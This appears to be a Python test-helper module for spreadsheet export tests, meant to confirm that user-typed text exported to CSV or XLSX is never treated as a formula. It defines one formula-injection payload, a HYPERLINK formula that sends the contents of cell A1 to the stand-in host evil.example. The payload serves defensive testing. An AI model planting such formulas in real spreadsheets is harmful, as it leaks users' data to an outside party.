"""Helpers of tests: Lists taken away as CSV and XLSX: nothing that somebody typed is a formula, numbers and days stay what they are."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from openpyxl import load_workbook

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"明细")'


def cells(path: Path) -> list[tuple[Any, ...]]:
    return list(load_workbook(path).worksheets[0].iter_rows())
